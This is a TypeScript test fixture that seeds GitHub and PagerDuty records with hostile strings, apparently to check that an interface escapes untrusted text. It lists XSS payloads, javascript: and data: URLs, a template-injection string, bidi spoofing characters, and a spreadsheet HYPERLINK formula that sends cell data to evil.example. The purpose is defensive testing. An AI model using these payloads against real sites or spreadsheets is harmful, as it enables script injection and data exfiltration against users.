/** A world whose people write what would do harm on a page that did not treat it as text. */
import type { World } from '@/db/seed/world'

/** What is written into titles, texts and names; `alert` is what the test listens for. */
export const hostileTexts = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(2)</script>',
  '"><svg onload=alert(3)>',
  "' autofocus onfocus=alert(4) x='",
  '[link](javascript:alert(5)) ![x](https://evil.example/pixel.png)',
  '{{constructor.constructor("alert(6)")()}} #{alert(7)} <!-- <base href=//evil.example> -->',
  '=HYPERLINK("https://evil.example/?"&A1)',
  '\u202Egnp.exe\u2066 \u0007\u001b[31m\u2028\u2029',
]

/** What stands where an address should. */
export const hostileAddresses = [
  'javascript:alert(8)//https://github.com/',
  'data:text/html,<script>alert(9)</script>',
  ' java\tscript:alert(10)',
  'vbscript:msgbox(11)',
  'http://evil.example/',
  '//evil.example/',
]

/** The world with hostile texts and addresses in everything that is shown of it; nothing that is counted changes. */
export function withHostileTexts(world: World): World {
  let turn = 0
  const text = () => hostileTexts[turn++ % hostileTexts.length] ?? ''
  const address = () => hostileAddresses[turn++ % hostileAddresses.length] ?? ''
  const spoil = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') {
      if (texts.has(key)) return `${value} ${text()}`
      return addresses.has(key) ? address() : value
    }
    if (Array.isArray(value)) return value.map((entry) => spoil(entry, key))
    if (value === null || typeof value !== 'object') return value
    return Object.fromEntries(Object.entries(value).map(([name, entry]) => [name, spoil(entry, name)]))
  }
  const { github, pagerDuty } = world
  return {
    ...world,
    github: {
      ...github,
      repositories: github.repositories.map((repository) => ({
        ...repository,
        pullRequests: spoil(repository.pullRequests, '') as typeof repository.pullRequests,
        commits: spoil(repository.commits, '') as typeof repository.commits,
        releases: spoil(repository.releases, '') as typeof repository.releases,
        workflowRuns: spoil(repository.workflowRuns, '') as typeof repository.workflowRuns,
      })),
    },
    pagerDuty: {
      ...pagerDuty,
      incidents: spoil(pagerDuty.incidents, '') as typeof pagerDuty.incidents,
      changeEvents: spoil(pagerDuty.changeEvents, '') as typeof pagerDuty.changeEvents,
    },
  }
}

const texts = new Set(['title', 'body', 'headRefName', 'path', 'message', 'description', 'summary'])
const addresses = new Set(['url', 'html_url'])
